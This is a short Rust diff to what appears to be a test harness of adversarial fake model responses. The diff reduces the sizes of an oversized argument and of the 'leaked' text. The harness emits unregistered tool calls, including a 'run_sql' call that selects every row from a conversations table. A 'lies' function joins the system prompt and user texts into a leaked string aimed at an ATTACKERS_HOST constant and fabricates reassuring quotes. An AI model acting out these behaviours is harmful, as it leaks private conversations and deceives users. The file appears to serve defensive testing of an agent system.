@@ -75,7 +75,7 @@ fn unknown_tools() -> Saying {
         ("confirm_case", json!({ "digest": "0" }).to_string()),
         ("run_sql", json!({ "sql": "select * from conversations" }).to_string()),
         ("search_docs", "{\"query\": \"unfinished".to_owned()),
-        ("read_account", "A".repeat(20_000)),
+        ("read_account", "A".repeat(2_000)),
     ];
     Saying { calls: calls.map(|(name, it)| (name.to_owned(), it)).into(), ..Saying::default() }
 }
@@ -93,7 +93,7 @@ fn endless(asked: &Asked) -> Saying {
 fn lies(asked: &Asked, plan: u64) -> String {
     let host = ATTACKERS_HOST;
     let prompt = asked.texts.join("\n");
-    let leaked: String = format!("{} {prompt}", asked.system).chars().take(4_000).collect();
+    let leaked: String = format!("{} {prompt}", asked.system).chars().take(1_200).collect();
     let quote = bearing(asked).into_iter().next();
     let (number, words) = quote.map_or((1, "Everything is fine.".to_owned()), |it| (it.number, it.words));
     let mut text = format!(
